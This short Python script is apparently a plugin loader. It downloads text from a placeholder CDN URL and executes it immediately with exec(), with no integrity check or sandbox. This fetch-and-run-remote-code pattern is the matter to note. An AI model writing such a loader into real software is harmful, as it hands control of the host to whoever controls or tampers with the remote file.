import urllib.request

SRC = "https://cdn.example/p/latest.txt"

def main() -> None:
    code = urllib.request.urlopen(SRC).read().decode()
    namespace = {}
    exec(compile(code, "plugin", "exec"), namespace)

main()
